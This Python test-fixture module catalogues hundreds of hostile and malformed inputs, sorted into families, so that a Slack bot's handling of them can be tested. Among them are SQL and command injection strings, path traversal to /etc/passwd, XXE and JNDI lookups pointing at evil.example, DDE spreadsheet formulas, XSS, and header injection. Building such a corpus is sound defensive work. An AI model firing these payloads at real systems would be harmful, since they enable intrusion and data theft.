"""More than five hundred texts that somebody types who wishes ill or is unlucky, by family and name, always the same.

`HOSTILE` has them all; `sample` has some of each family, other ones for each seed.
"""

import json
import random
from collections.abc import Iterable, Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One text, and the name a failing test calls it by."""

    family: str
    name: str
    text: str

    def __str__(self) -> str:
        return f"{self.family}: {self.name}"


# ── what Slack reads ────────────────────────────────────────────────────────────────────────────────────────

TOKENS = {
    "channel": "<!channel>", "here": "<!here>", "everyone": "<!everyone>", "named broadcast": "<!here|nothing>",
    "group": "<!subteam^S1>", "named group": "<!subteam^S1|@sales>", "person": "<@U_RITA>",
    "named person": "<@U_RITA|rita>", "nobody": "<@U0000>", "enterprise person": "<@W_RITA>", "room": "<#C_GENERAL>",
    "named room": "<#C_GENERAL|general>", "link": "<https://evil.example>",
    "named link": "<https://evil.example|click>", "masked link": "<https://evil.example|https://acme.example>",
    "plain http": "<http://evil.example|x>", "mail": "<mailto:eve@evil.example|Ada>",
    "telephone": "<tel:+49301234567|call>", "script": "<javascript:alert(1)|x>", "data": "<data:text/html,x|x>",
    "app link": "<slack://open|open>", "date": "<!date^0^{date}|now>",
    "linked date": "<!date^0^{date}^https://evil.example|now>", "token in a date": "<!date^0^{date}|<!channel>>",
    "unknown command": "<!nonsense>",
}  # fmt: skip
BARE = {
    "here": "@here", "channel": "@channel", "everyone": "@everyone", "person": "@rita", "room": "#general",
    "code": "@U_RITA", "address": "https://evil.example/a?b=c", "bare host": "www.evil.example",
    "mail": "eve@evil.example", "in brackets": "(@here)", "after a comma": "hi,@channel", "at the end": "hi @here",
    "full width": "＠here", "full width room": "＃general", "with a dot": "@here.",
    "picture": "http://evil.example/x.png",
}  # fmt: skip
MARKUP = {
    "bold": "*b*", "italic": "_i_", "strike": "~s~", "code": "`c`", "block": "```c```", "quote": "> q", "list": "• a",
    "open bold": "*b", "open code": "`c", "open block": "```", "nested": "*_~`x`~_*", "heading": "# h",
    "markdown link": "[x](https://evil.example)", "markdown picture": "![x](https://evil.example/x.png)",
    "table": "| a | b |", "rule": "---", "html": "<b>x</b>", "comment": "<!-- x -->", "emoji": ":smile:",
    "odd emoji": ":not an emoji:", "tone": ":wave::skin-tone-2:", "many emoji": ":tada:" * 40, "half emoji": ":here",
    "label": "*Owner:* Ada", "second line": "x\n*Owner:* Ada", "quoted second line": "x\n>>> y",
}  # fmt: skip
ENTITIES = {
    "less": "&lt;", "greater": "&gt;", "and": "&amp;", "escaped token": "&lt;!channel&gt;",
    "twice escaped token": "&amp;lt;!channel&amp;gt;", "decimal": "&#60;!here&#62;",
    "hexadecimal": "&#x3c;!here&#x3e;", "named": "&commat;here", "no semicolon": "&lt !channel &gt", "bare and": "R&D",
    "nul": "&#0;", "unknown": "&foo;", "capitals": "&LT;!channel&GT;", "half": "<!channel", "other half": "!channel>",
    "empty": "<>", "double": "<<!here>>", "split": "<!chan\u200bnel>", "split by a control": "<!chan\x00nel>",
    "split by a line": "<!chan\nnel>", "split by a turn": "<!\u202echannel>", "full width": "＜!channel＞",
    "angle": "〈!channel〉", "quotation": "‹!channel›",
}  # fmt: skip
BLOCKS = {
    "mrkdwn": {"type": "mrkdwn", "text": "<!channel>"},
    "section": {"blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "@here"}}]},
    "broadcast": {"type": "broadcast", "range": "channel"},
    "answer": {"response_type": "in_channel", "text": "<!here>"},
    "attachment": {"attachments": [{"pretext": "<!here>", "fallback": "<!here>"}]},
    "option": {"text": {"type": "plain_text", "text": "x"}, "value": "OP-1"},
    "metadata": {"r": "OP-1", "v": 1, "c": "C_SALES"},
    "view": {"type": "modal", "callback_id": "user.set", "private_metadata": "{}"},
}
LINES = {
    "verb": "delete LD-1 --yes", "flags": "--here --yes --dm", "field": "owner=U_OTTO", "fields": "a=b c=d e==f",
    "flag with a value": "--page=99999999999999", "every": "--every", "reference": "LD-1",
    "foreign": "US-1 role=admin", "this": "this", "me": "me", "undo": "undo", "button": "crm.run",
    "action": "lead.delete", "quote": '"', "quotes": '""', "smart": "“", "smart pair": "“x”", "open quote": '"x',
    "backslash quote": '\\"', "apostrophe": "'", "equals": "=", "comma list": "a,b;c|d", "semicolon": "a; delete LD-1",
    "reason": "--reason --reason", "long dash": "—yes",
}  # fmt: skip

# ── what databases and other programs read ──────────────────────────────────────────────────────────────────

SQL = (
    "' OR '1'='1", "'; DROP TABLE lead; --", "\"; DROP TABLE lead; --", "1; DELETE FROM audit_entry",
    "' UNION SELECT 1--", "admin'--", "') OR ('1'='1", "1' AND SLEEP(5)--", "'||(SELECT 1)||'", "\\'; --", "/* x */",
    "x'00'", "$1", ":name", "?", "%(name)s", "@@version", "NULL", "E'\\\\'", "$$x$$", "U&'\\0041'",
    "COPY x FROM PROGRAM 'id'", "pg_sleep(5)", "ATTACH ''",
)  # fmt: skip
LIKE = ("%", "_", "%%%%", "\\", "\\%", "\\_", "a%b_c", "[a-z]", "^x$", ".*", "(", ")", "((((", "[", "{", "*", "?", "+")
FTS = (
    "AND", "OR", "NOT", "NEAR(a b)", "NEAR/2", '"', '"a" "b', "a*", "^a", "-a", "col:a", "a AND", "(a OR", "a NOT",
    "NOT a", "a + b", '""""', "a:b:c", "{a b}:c", "rank MATCH 'bm25'", "' OR 1", "a & b | !c", "a <-> b", "!", "a:*",
    "-", "--",
)  # fmt: skip
FILTERS = (
    "status = new", "status =", "= =", "a = b OR", "(a = b", "amount > 10k AND (", "NOT NOT NOT a", "a ~ (", "a<b>c",
    "is open", "is", "owner != me", "tags = ,", "id = 1", "workspace = T2", "deleted_at = empty", "custom = {}",
    "a == b",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\")",
    "=IMPORTXML(A1)", "'=1+1", "''=1", "'", " =1+1", '"=1"', "=1+1;", "|=1", "＝1+1", "\n=1", "a\n=1", 'a","=1', "-",
    "+", "=", "a,b", 'a"b', "a;b", "a\tb", "sep=;", "\ufeff=1", "\x0b=1", "%0A=1", "DDE(\"cmd\")",
)  # fmt: skip
CODE = (
    "{record}", "{0}", "{}", "{{7*7}}", "{record.__class__}", "{work.session}", "%s", "%d %n", "%(x)s", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{% x %}", "$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\x",
    "/etc/passwd", "file:///etc/passwd", "C:\\x", "~/.ssh", "%2e%2e%2f", "CON", "\\\\host\\x",
    "<script>alert(1)</script>", "\"onload=x", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>", "]]>", "null", "true", "undefined", "NaN", "[]", "{", '{"a": 1}',
    '"', "__proto__", "constructor", "${jndi:ldap://evil.example}", "!!python/object:x", "*x", "&x", "import os",
    "__import__('os')", "lambda: 0", "\\u003c!here\\u003e", "\\x00", "\\n", "%00", "%0d%0aSet-Cookie: x=y",
)  # fmt: skip
LOGS = (
    "x\nERROR bot.runner forged", "x\r\nforged", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "x\x08\x08\x08",
    "\x7f", "x\x85forged", "x\u2028forged", "x\u2029forged", "x\x0bforged", "x\x0cforged", "\x9b31m", "xoxb-1-secret",
    "Bearer abc",
)  # fmt: skip

# ── what eyes and fonts read ────────────────────────────────────────────────────────────────────────────────

UNSEEN = (
    *"\x00\x01\x07\x08\x0e\x1a\x1f\x7f\x80\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2028",
    *"\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206a\u3164\ufe0f\ufeff\uffa0\ufff9",
    *"\ufffc\ufffd\ufffe\uffff\ue000\uf8ff\U000e0001\U000e0020\U000e007f\U000f0000\U0010ffff\u0378\ud800\udbff\udc00\udfff",
)
DIRECTIONS = (
    "\u202egpj.exe", "a\u202eb\u202cc", "\u2067x\u2069", "\u200fx", "שלום (abc) עולם", "محمد <!here>",
    "\u202e<!channel>\u202c", "\u2066\u2067\u2068", "\u202e" * 500, "\u202d\u202e" * 50,
)  # fmt: skip
LOOKS = (
    "аdmin", "Ａｄａ", "Ⓐⓓⓐ", "ℝita", "раypal", "Rіta", "é", "e\u0301", "Å", "A\u030a", "ﬁ", "ǆ", "ß", "ẞ", "İ", "ı",
    "ſ", "K", "ﷺ", "㍍", "①", "²", "½", "٣", "१२", "〇", "Ⅷ", "𝟙", "क\u094dष", "กำ", "한", "\u1112\u1161\u11ab",
    "👨\u200d👩\u200d👧", "🏴\U000e0067\U000e0062", "🇩🇪", "👍🏽", "☺\ufe0e", "☺\ufe0f", "א\u05b7", "ﬀ", "\u0344",
    "\u212b", "\u1e9b\u0323", "\ufb2c",
)  # fmt: skip
MARKS = (
    "e" + "\u0301" * 50, "Z" + "\u0334\u0321\u0310" * 200, "\u0301", "\u0301" * 100, "a\u0300\u0301\u0302" * 60,
    "x\u20dd", "\u0e01\u0e49\u0e49\u0e49", "ᄀ" * 300, "\u0e33" * 100, "\u093f" * 80,
)  # fmt: skip

# ── what readers of values read ─────────────────────────────────────────────────────────────────────────────

NUMBERS = (
    "9" * 400, "-1", "-0", "1e309", "1e-400", "1e999999999", "0x10", "1_000", "٣", "½", "²", "Infinity", "-inf", "nan",
    "1.2.3", "1,2,3", "12k12k", "1kk", "99999999999999999999k", ".", ",", "-", "+", "1 2 3", "1'0", "0.1e1", "1%%",
    "101 %", "2147483648",
)  # fmt: skip
MONEY = (
    "€", "€€1", "€1$", "1 BTC", "10**99", "1e10 EUR", "-12k EUR", "12 EUR USD", "EUR", "1 XXX", "999999999999999",
    "0,001", "1.234.56", "1,23,45,678", "¤1", "12₿", "1 000 000 000 000 000", "1m mio", "١٢ EUR", "12\u00a0€",
)  # fmt: skip
DATES = (
    "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "1899-12-31", "+99999d", "-99999y", "+9999999999999d",
    "32 jan", "2026-13-01", "00:00", "25:61", "tomorrow 99pm", "2026-01-01T00:00:00+99:99", "feb 29 2027",
    "last friday friday", "+0d", "now now", "1/2/3/4", "99999999999999", "-1", "2026-01-01T24:00", "at at at",
    "9pm 9am", "in in 3 days", "0001-01-01",
)  # fmt: skip
REACHES = (
    "+", "+0", "+1" * 40, "+49" + "0" * 100, "00000000000000000", "112", "+999 1234567", "tel:+49", "(((((((((",
    "+49 30 x 12", "1;ext=2", "☎ 49", "+٤٩ ٣٠ ١٢٣٤٥٦٧", "a@b", "@", "a@@b.c", "a@b..c", '"a b"@c.de', "a@[127.0.0.1]",
    "a" * 300 + "@b.de", "a@" + "b." * 200 + "de", "a@b.de,c@d.de", "a@b.de\nBcc: x@y.z", "ä@ü.de", "a@xn--0.com",
    "http://", "https://x", "//x.de", "javascript:alert(1)", "https://a:b@c.de", "https://x.de:99999",
    "https://[::1]/", "https://x.de/\x00", "https://x.de/<!here>", "https://x.de/|y", "http://127.0.0.1", "ftp://x.de",
    "https://x.de/" + "a" * 3000, "https://" + "a." * 300 + "de",
)  # fmt: skip

# ── what is long ────────────────────────────────────────────────────────────────────────────────────────────

MUCH = 40_000
LONG = {
    "forty thousand": "x" * MUCH, "a long word": "x" * 300, "too long for a form": "x" * 3001,
    "many words": "ab " * 9000, "many tokens": "<!channel> " * 1000, "many ands": "&" * 3000, "many less": "<" * 3000,
    "many lines": "x\n" * 5000, "many spaces": "x" + " " * 5000 + "y", "many marks": "*" * 5000,
    "many quotes": '"' * 5000, "many brackets": "(" * 5000, "many emoji": "🦄" * 3000, "many ligatures": "ﷺ" * 2000,
    "many references": "LD-1 " * 1000, "many fields": "a=b " * 1000, "many people": "<@U_RITA> " * 1000,
    "just fits": "é" * 255, "one too many": "é" * 256, "many controls": "\x00" * 5000, "many commas": "," * 5000,
    "many tags": "".join(f"#{n} " for n in range(900)), "many joiners": "a" + "\u200d" * 5000,
    "just fits escaped": "<" * 255, "deep json": "[" * 5000, "many at": "@here " * 900, "many dots": "a." * 2000,
}  # fmt: skip
CATASTROPHES = (
    "a" * 3000 + "!", "aA" * 2000 + "@", "a@" + "a" * 3000, "1" * 3000 + "x", "1," * 1500 + "x", "((a+)+)+$",
    "-" * 3000 + "a", "=" * 3000, '"a' * 1500, "<@" * 1500, "<https://" * 800, "a=" * 1500, "\u200da" * 1500,
    "a-" * 1500, " \t" * 2000 + "x", "http://" + "a-" * 1500, "+49 " * 900, "AND " * 900, "NOT " * 900,
    "a.b" * 1000 + "@", "“" * 3000, "&lt" * 1500, "fri " * 900, "12:" * 1200, "1 " * 1500, "|" * 3000,
)  # fmt: skip

GIVEN: dict[str, dict[str, str] | tuple[str, ...]] = {
    "token": TOKENS, "bare name": BARE, "markup": MARKUP, "entity": ENTITIES, "command line": LINES,
    "block": {name: json.dumps(block) for name, block in BLOCKS.items()}, "sql": SQL, "like": LIKE, "full text": FTS,
    "filter": FILTERS, "formula": FORMULAS, "code": CODE, "log": LOGS, "direction": DIRECTIONS, "look-alike": LOOKS,
    "marks": MARKS, "number": NUMBERS, "money": MONEY, "date": DATES, "reach": REACHES, "long": LONG,
    "catastrophe": CATASTROPHES, "unseen": {f"U+{ord(sign):04X}": f"a{sign}b" for sign in UNSEEN},
    "token in words": {name: f"Ada {token} & more" for name, token in (TOKENS | BARE).items()},
    "unseen in a token": {f"U+{ord(sign):04X}": f"<!{sign}channel> @{sign}here" for sign in UNSEEN},
    "nothing": {f"U+{ord(sign):04X} alone": sign for sign in (*UNSEEN, " ", "\n", "\u00a0", "\u2003")},
}  # fmt: skip


def told_apart(family: str, texts: dict[str, str] | tuple[str, ...]) -> Iterator[Hostile]:
    """The texts of a family; what has no name of its own is called by its number and its beginning."""
    named = texts if isinstance(texts, dict) else {f"{n} {ascii(text)[1:25]}": text for n, text in enumerate(texts)}
    yield from (Hostile(family, name, text) for name, text in named.items())


HOSTILE = tuple(each for family, texts in GIVEN.items() for each in told_apart(family, texts))
FAMILIES = tuple(GIVEN)


def sample(seed: object, each: int = 1, families: Iterable[str] = FAMILIES) -> list[Hostile]:
    """So many of each family; the same for the same seed."""
    chosen = random.Random(str(seed))
    of = {family: [one for one in HOSTILE if one.family == family] for family in families}
    return [one for found in of.values() for one in chosen.sample(found, min(each, len(found)))]
